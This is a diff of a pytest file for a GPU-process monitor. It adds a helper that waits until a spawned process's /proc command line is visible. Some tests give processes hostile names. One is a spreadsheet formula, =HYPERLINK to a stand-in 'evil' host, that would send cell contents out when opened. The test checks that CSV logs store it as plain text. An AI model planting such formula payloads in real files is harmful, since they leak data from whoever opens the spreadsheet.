@@ -20,6 +20,7 @@ import re
 import shutil
 import subprocess
 import sys
+import time
 from pathlib import Path
 
 import psutil
@@ -99,10 +100,34 @@ def hostile_backend(real_pids=(), *, gpus: int = 2, name: str = GPU_NAME, clock=
     )
 
 
+def spawn_sleep(argv0: str | bytes) -> subprocess.Popen:
+    """``sleep 600`` under the argv0 ``argv0`` (as ``exec -a`` makes), once the kernel shows its new argv.
+
+    Why wait: ``Popen`` returns when the child's exec has closed its descriptors, before the kernel has set the
+    new program's argv; until then ``/proc/<pid>/cmdline`` is empty (right after ``Popen`` in 47,895 of 50,628
+    spawns on a loaded 2-core VM). A read in that window saw no command, so the comparison with the hostile
+    argv failed (fresh clones, 2026-11-30). Bounded: 10 s.
+    """
+    proc = subprocess.Popen([argv0, b"600" if isinstance(argv0, bytes) else "600"], executable=shutil.which("sleep"))
+    deadline = time.monotonic() + 10.0
+    while True:
+        try:
+            with open(f"/proc/{proc.pid}/cmdline", "rb") as file:
+                if file.read():
+                    return proc
+        except OSError:
+            pass
+        if time.monotonic() > deadline:
+            proc.kill()
+            proc.wait(timeout=10)
+            raise AssertionError(f"sleep (pid {proc.pid}) showed no argv within 10 s")
+        time.sleep(0.005)
+
+
 @pytest.fixture
 def child():
     """A real process whose argv0 is ARGV0 (non-UTF-8 bytes and escape sequences), as ``exec -a`` makes."""
-    proc = subprocess.Popen([ARGV0, b"600"], executable=shutil.which("sleep"))
+    proc = spawn_sleep(ARGV0)
     try:
         yield proc
     finally:
@@ -344,7 +369,7 @@ def test_csv_text_cells_are_never_formulas_and_numbers_stay_numbers():
 def test_log_csv_of_a_real_process_named_as_a_formula(monkeypatch, tmp_path):
     """``nvtopy log --processes`` on a real process whose argv0 is a spreadsheet formula: text, not a formula."""
     formula = '=HYPERLINK("http://evil/?"&A1,"ok")'
-    proc = subprocess.Popen([formula, "600"], executable=shutil.which("sleep"))
+    proc = spawn_sleep(formula)
     try:
         monkeypatch.setattr(options, "open_backend", lambda args: hostile_backend([proc.pid]))
         path = tmp_path / "procs.csv"
